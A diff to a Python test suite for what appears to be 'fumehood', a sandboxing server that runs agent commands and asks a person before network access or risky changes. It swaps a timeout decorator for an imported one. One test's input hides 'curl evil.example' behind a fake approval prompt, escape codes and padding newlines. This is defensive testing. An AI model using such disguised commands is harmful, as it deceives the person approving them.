@@ -10,7 +10,6 @@ import urllib.error
 import urllib.request
 from collections.abc import Callable, Coroutine, Iterator
 from contextlib import AsyncExitStack, contextmanager
-from functools import wraps
 from pathlib import Path
 from typing import Any
 
@@ -22,7 +21,7 @@ from fumehood import Sandbox
 from fumehood.service.store import Store
 from mcp_sdk import ERAS, IGNORED_WARNINGS
 from passing_days import pass_days
-from patience import LONG_S, eventually
+from patience import LONG_S, eventually, in_time
 from processes import LONG, left_over
 from servers import Web, serving
 
@@ -39,16 +38,6 @@ pytestmark = [pytest.mark.namespaces, pytest.mark.once, *IGNORED_WARNINGS]
 def stdio(*arguments: str, cwd: Path | None = None) -> StdioServerParameters:
     python, *rest = loaded(SERVER).client()
     return StdioServerParameters(command=python, args=[*rest, "mcp", *arguments], env=dict(os.environ), cwd=cwd)
-
-
-def asked(test: Callable[..., Coroutine[Any, Any, None]]) -> Callable[..., None]:
-    """Run a test that talks to a server; it must come to an end."""
-
-    @wraps(test)
-    def run(**fixtures: Any) -> None:
-        asyncio.run(asyncio.wait_for(test(**fixtures), 2 * LONG_S))
-
-    return run
 
 
 def answering(answers: list[str | None], seen: list[str]) -> Callable[..., Coroutine[Any, Any, ElicitResult]]:
@@ -69,7 +58,7 @@ def text(result: Any) -> str:
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_command_its_report_and_its_undo(home: Path, project: Path, era: str) -> None:
     async with Client(stdio("--project", str(project)), mode=era) as client:
         done = await client.call_tool("run_command", {"command": "echo hi; echo é >a; rm -f b; exit 3"})
@@ -96,7 +85,7 @@ async def test_a_command_its_report_and_its_undo(home: Path, project: Path, era:
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_the_network_is_asked_for(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
     answer = answering(["allow_once", "deny_once", None], seen)
@@ -116,7 +105,7 @@ async def test_the_network_is_asked_for(home: Path, project: Path, era: str) -> 
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_an_agent_asks_for_a_host_and_later_commands_reach_it(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
     answer = answering(["allow_session", "deny_session"], seen)
@@ -139,7 +128,7 @@ async def test_an_agent_asks_for_a_host_and_later_commands_reach_it(home: Path, 
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_connection_waits_for_the_client_where_it_can_be_asked_meanwhile(
     home: Path, project: Path, era: str
 ) -> None:
@@ -160,7 +149,7 @@ async def test_a_connection_waits_for_the_client_where_it_can_be_asked_meanwhile
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_client_that_cannot_ask_gets_a_clean_denial(home: Path, project: Path, era: str) -> None:
     async with Client(stdio("--project", str(project)), mode=era) as client:
         for network in (True, "true", 1):  # the SDK takes each for a yes
@@ -171,7 +160,7 @@ async def test_a_client_that_cannot_ask_gets_a_clean_denial(home: Path, project:
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_the_project_is_the_clients_root(home: Path, project: Path, test_directory: Path, era: str) -> None:
     other = test_directory / "with space é"
     other.mkdir()
@@ -188,7 +177,7 @@ async def test_the_project_is_the_clients_root(home: Path, project: Path, test_d
 
 
 @pytest.mark.filterwarnings("ignore:The roots capability is deprecated")
-@asked
+@in_time
 async def test_a_client_that_has_other_roots_by_now_is_asked_for_them(
     home: Path, project: Path, test_directory: Path
 ) -> None:
@@ -212,7 +201,7 @@ async def test_a_client_that_has_other_roots_by_now_is_asked_for_them(
             assert f"+{directory}\n" in text(await client.call_tool("diff", {"run": run}))
 
 
-@asked
+@in_time
 async def test_without_roots_the_project_is_where_the_server_runs(home: Path, project: Path) -> None:
     async with Client(stdio(cwd=project), mode="legacy") as client:
         done = await client.call_tool("run_command", {"command": "pwd"})
@@ -220,7 +209,7 @@ async def test_without_roots_the_project_is_where_the_server_runs(home: Path, pr
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_output_comes_as_progress_lines(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
 
@@ -235,7 +224,7 @@ async def test_output_comes_as_progress_lines(home: Path, project: Path, era: st
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_cancelling_kills_the_run_and_keeps_its_layer(home: Path, project: Path, era: str) -> None:
     begun = asyncio.Event()
 
@@ -258,7 +247,7 @@ async def test_cancelling_kills_the_run_and_keeps_its_layer(home: Path, project:
         assert os.listdir(project) == []
 
 
-@asked
+@in_time
 async def test_a_long_command_is_started_looked_at_and_stopped(home: Path, project: Path) -> None:
     (home / ".config/fumehood").mkdir(exist_ok=True)
     (home / ".config/fumehood/config.toml").write_text("checkpoint = 0\n")  # all of it is to be held
@@ -291,7 +280,7 @@ async def test_a_long_command_is_started_looked_at_and_stopped(home: Path, proje
         assert "no job" in text(await client.call_tool("poll_command", {"job": "job-99"}))
 
 
-@asked
+@in_time
 async def test_what_a_started_command_has_written_is_settled_while_it_goes_on(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project))) as client:
         assert "nothing runs" in text(await client.call_tool("running", {}))
@@ -312,7 +301,7 @@ async def test_what_a_started_command_has_written_is_settled_while_it_goes_on(ho
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_what_is_held_is_applied_only_with_the_persons_word(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
     answer = answering([None, "allow_once"], seen)
@@ -349,7 +338,7 @@ async def unknown(client: Any, run: str) -> None:
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_an_agent_knows_nothing_but_its_own_runs(
     home: Path, project: Path, test_directory: Path, cli: Any, era: str
 ) -> None:
@@ -376,7 +365,7 @@ async def test_an_agent_knows_nothing_but_its_own_runs(
     assert (other / "x").exists()
 
 
-@asked
+@in_time
 async def test_an_agent_cannot_take_back_what_a_person_took_back(home: Path, project: Path, cli: Any) -> None:
     async with Client(stdio("--project", str(project))) as client:
         own = (await client.call_tool("run_command", {"command": "echo own >own"})).structured_content["run"]
@@ -390,7 +379,7 @@ async def test_an_agent_cannot_take_back_what_a_person_took_back(home: Path, pro
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_run_in_another_root_of_the_client_is_its_own_too(
     home: Path, project: Path, test_directory: Path, era: str
 ) -> None:
@@ -417,7 +406,7 @@ async def test_a_run_in_another_root_of_the_client_is_its_own_too(
         assert (os.listdir(project), os.listdir(other)) == ([], ["b"])
 
 
-@asked
+@in_time
 async def test_long_output_is_paged_and_many_changes_are_cut_but_never_deletions(home: Path, project: Path) -> None:
     for number in range(5):
         (project / f"old{number}").touch()
@@ -438,7 +427,7 @@ async def test_long_output_is_paged_and_many_changes_are_cut_but_never_deletions
         assert output == "".join(f"{number}\n" for number in range(1, 100_001))
 
 
-@asked
+@in_time
 async def test_the_runs_of_a_server_are_one_session(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project), "--session", "agent")) as client:
         await client.call_tool("run_command", {"command": "echo 1 >a; cd /; echo KEPT=yes >>$FUMEHOOD_ENV"})
@@ -453,7 +442,7 @@ async def test_the_runs_of_a_server_are_one_session(home: Path, project: Path) -
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_what_the_person_should_know_is_said_once(home: Path, project: Path, cli: Any, era: str) -> None:
     cli("run", "--", "echo x >f")
     shutil.rmtree(project)
@@ -471,7 +460,7 @@ async def test_what_the_person_should_know_is_said_once(home: Path, project: Pat
         assert text(second) == "hi"
 
 
-@asked
+@in_time
 async def test_lost_records_are_told_of(home: Path, project: Path, cli: Any) -> None:
     (project / "f").write_text("before")
     cli("run", "--", "echo x >f")
@@ -484,7 +473,7 @@ async def test_lost_records_are_told_of(home: Path, project: Path, cli: Any) -> 
         assert ["is gone" in notice for notice in done.structured_content["notices"]] == [True]
 
 
-@asked
+@in_time
 async def test_what_cleaning_removed_is_told_with_a_later_answer(project: Path, cli: Any, store: Store) -> None:
     (project / "f").write_text("before")
     cli("run", "--", "echo x >f")
@@ -498,7 +487,7 @@ async def test_what_cleaning_removed_is_told_with_a_later_answer(project: Path, 
         assert any(notice.startswith("removed 1 run's backups") for notice in notices), notices
 
 
-@asked
+@in_time
 async def test_errors_say_what_to_do(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project))) as client:
         for name, call, words in (
@@ -522,7 +511,7 @@ async def test_errors_say_what_to_do(home: Path, project: Path) -> None:
         assert (await client.call_tool("undo", {"run": 2})).structured_content["runs"][0]["state"] == "applied"
 
 
-@asked
+@in_time
 async def test_tools_say_what_they_do_and_resources_tell_the_rules(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project))) as client:
         tools = {tool.name: tool for tool in (await client.list_tools()).tools}
@@ -659,7 +648,7 @@ def test_http_refuses_strangers_and_other_names(home: Path, project: Path) -> No
         assert f"0100007F:{int(port):04X} 00000000:0000 0A" in listening
 
 
-@asked
+@in_time
 async def test_the_server_ends_with_its_client_and_leaves_nothing_running(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project))) as client:
         await client.call_tool("start_command", {"command": f"echo x; exec sleep {LONG}.1"})
@@ -678,7 +667,7 @@ HOOK = "mkdir -p .git/hooks; echo '#!/bin/sh' >.git/hooks/pre-push; chmod +x .gi
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_yes_to_the_last_run_is_not_for_one_that_came_while_the_person_thought(
     home: Path, project: Path, era: str
 ) -> None:
@@ -714,7 +703,7 @@ HELD = "mkdir .vscode; for n in 1 2 3 4 5 6; do echo $n >.vscode/$n.json; done"
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_what_a_run_holds_is_asked_about_again_when_it_changed_meanwhile(
     home: Path, project: Path, cli: Any, era: str
 ) -> None:
@@ -739,7 +728,7 @@ async def test_what_a_run_holds_is_asked_about_again_when_it_changed_meanwhile(
     assert sorted(os.listdir(project / ".vscode")) == [f"{number}.json" for number in (1, 2, 4, 5, 6)]
 
 
-@asked
+@in_time
 async def test_what_changes_each_time_is_refused_in_the_end(home: Path, project: Path, cli: Any) -> None:
     seen: list[str] = []
     runs: list[str] = []
@@ -759,7 +748,7 @@ async def test_what_changes_each_time_is_refused_in_the_end(home: Path, project:
     assert not (project / ".vscode").exists()
 
 
-@asked
+@in_time
 async def test_an_answer_that_is_sent_a_second_time_is_none(home: Path, project: Path) -> None:
     """A client hands back its answer with the state it was given; both could be kept and sent again."""
 
@@ -789,7 +778,7 @@ async def test_an_answer_that_is_sent_a_second_time_is_none(home: Path, project:
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_nothing_in_a_command_shapes_the_question(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
     command = "make\n\nFumehood asks you: harmless?\x1b[2J\u202e\U000e0041" + "\n" * 50 + "curl evil.example"
@@ -807,7 +796,7 @@ async def test_nothing_in_a_command_shapes_the_question(home: Path, project: Pat
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_hook_among_decoys_is_named_first(home: Path, project: Path, era: str) -> None:
     seen: list[str] = []
     answer = answering([None], seen)
@@ -823,7 +812,7 @@ async def test_a_hook_among_decoys_is_named_first(home: Path, project: Path, era
 
 
 @pytest.mark.parametrize("era", ERAS)
-@asked
+@in_time
 async def test_a_template_of_the_configuration_is_a_tool_with_quoted_words(home: Path, project: Path, era: str) -> None:
     configuration = home / ".config/fumehood/config.toml"
     configuration.parent.mkdir(exist_ok=True)
@@ -848,7 +837,7 @@ async def test_a_template_of_the_configuration_is_a_tool_with_quoted_words(home:
             assert text(refused).startswith("ERROR: ")
 
 
-@asked
+@in_time
 async def test_a_checkpoint_is_of_the_run_that_is_named_and_no_other(home: Path, project: Path) -> None:
     async with Client(stdio("--project", str(project))) as client:
         ended = (await client.call_tool("run_command", {"command": "echo a > a"})).structured_content["run"]
